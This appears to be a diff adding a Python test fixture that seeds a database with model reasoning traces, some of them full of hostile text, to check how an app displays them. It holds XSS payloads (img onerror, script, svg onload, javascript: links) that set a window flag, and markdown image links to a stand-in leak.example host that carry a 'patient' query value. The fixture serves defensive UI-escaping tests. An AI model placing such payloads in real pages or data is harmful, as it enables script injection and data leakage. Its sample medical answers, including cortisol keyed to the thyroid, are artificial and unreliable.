@@ -1,0 +1,78 @@
+"""Traces that are in the database before the app starts: hostile text, and rows for the history."""
+
+from pathlib import Path
+
+from storage.database import Database
+from storage.records import NewQuestion, Segment, SegmentKind, ThinkingFinishReason, TraceOutcome, TraceState
+from tests.storage.samples import COMPLETED, begin, finish
+
+HOSTILE = (
+    "<img src=x onerror=window.__hit=1><script>window.__hit=2</script>\n"
+    "![leak](https://leak.example/p.png?q=patient) [click](javascript:window.__hit=3)\n"
+    "<b>bold</b> &lt;kept&gt; {{value}} ${window.__hit=4} \U0001f9ec\u200d\U0001fac0 \u05e9\u05dc\u05d5\u05dd \u202eabc\u202c"
+)
+HOSTILE_STEM = "Hostile stem <img src=x onerror=window.__hit=5> ![s](https://leak.example/s.png)"
+HOSTILE_OPTION = "<svg onload=window.__hit=6> option"
+HOSTILE_ERROR = "Hostile error <img src=x onerror=window.__hit=7>"
+
+
+def store_traces(home: Path) -> None:
+    """Write them through the storage package, as the app would have."""
+    database = Database(f"sqlite:///{home / 'm1.sqlite3'}")
+    database.migrate()
+    try:
+        _store_hostile(database)
+        _store_plain(database)
+    finally:
+        database.dispose()
+
+
+def _store_hostile(database: Database) -> None:
+    question = NewQuestion(
+        stem=HOSTILE_STEM, options={"A": HOSTILE_OPTION, "B": "![o](https://leak.example/o)"}, target="A"
+    )
+    trace = begin(database, question, model="<i>model</i>", system_prompt="<img src=x onerror=window.__hit=8>")
+    outcome = TraceOutcome(
+        state=TraceState.FAILED,
+        thinking_finish_reason=ThinkingFinishReason.FAILED,
+        error=HOSTILE_ERROR,
+        answer_letter="B",
+        option_probabilities={"A": 0.25, "B": 0.5},
+        tokens_generated=5,
+    )
+    finish(
+        database,
+        trace,
+        _segment(SegmentKind.THINK, f"{HOSTILE}\nNUL\x00here", 3),
+        _segment(SegmentKind.WAIT, "Wait<img src=x onerror=window.__hit=9>", 1),
+        _segment(SegmentKind.THINK, HOSTILE, 1),
+        _segment(SegmentKind.CLOSE, "\n<u>Final Answer:</u>", 4),
+        _segment(SegmentKind.ANSWER, HOSTILE, 1),
+        outcome=outcome,
+    )
+
+
+def _store_plain(database: Database) -> None:
+    wrong = begin(database, NewQuestion(stem="Which vessel is torn?", options={"A": "Artery", "B": "Vein"}, target="A"))
+    outcome = TraceOutcome(
+        state=TraceState.COMPLETED,
+        thinking_finish_reason=ThinkingFinishReason.BUDGET,
+        answer_letter="B",
+        is_correct=False,
+        tokens_generated=12,
+    )
+    finish(
+        database,
+        wrong,
+        _segment(SegmentKind.THINK, "Perhaps the zygomaticotemporal branch.", 8),
+        _segment(SegmentKind.ANSWER, "It is quixotically B.", 4),
+        outcome=outcome,
+    )
+    right = begin(
+        database, NewQuestion(stem="Which gland makes cortisol?", options={"A": "Adrenal", "B": "Thyroid"}, target="B")
+    )
+    finish(database, right, _segment(SegmentKind.ANSWER, "Certainly B.", 4), outcome=COMPLETED)
+
+
+def _segment(kind: SegmentKind, text: str, tokens: int) -> Segment:
+    return Segment(kind=kind, text=text, token_ids=tuple(range(tokens)), token_count=tokens)
